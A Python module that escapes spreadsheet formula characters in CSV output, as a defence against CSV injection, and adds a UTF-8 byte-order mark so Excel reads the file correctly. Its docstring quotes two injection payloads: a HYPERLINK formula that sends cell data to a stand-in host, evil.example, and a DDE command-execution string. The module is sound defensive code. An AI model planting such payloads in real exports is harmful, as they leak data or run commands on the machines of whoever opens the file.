"""Cells a spreadsheet shows as typed, never runs: formula escaping and CSV that Excel reads as UTF-8.

A name such as `=HYPERLINK("http://evil.example/?x="&A1,"x")` or `+cmd|' /C calc'!A0` is a
formula to Excel and LibreOffice when it starts a cell. The OWASP rule for CSV injection: a text
cell starting with = + - @ TAB or CR gets a leading single quote, so the program shows the text
(with the quote) instead of evaluating it. Numbers stay numbers: a value that is not text (a table
number, a year) or text that is only a number ("-3", "2.5") is left alone, since a spreadsheet
reads it as that number and nothing else.
"""
import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
# Excel opens a CSV file in the computer's legacy code page unless it starts with the UTF-8
# byte-order mark; without it Hangul turns into mojibake.
BYTE_ORDER_MARK = "\ufeff"


def escape_formula(value):
    """`value` made safe for a spreadsheet cell: text that starts like a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(rows):
    """CSV text of `rows` (lists of cells) for spreadsheets: the byte-order mark first, every cell escaped."""
    out = io.StringIO()
    out.write(BYTE_ORDER_MARK)
    writer = csv.writer(out)
    writer.writerows([escape_formula(cell) for cell in row] for row in rows)
    return out.getvalue()
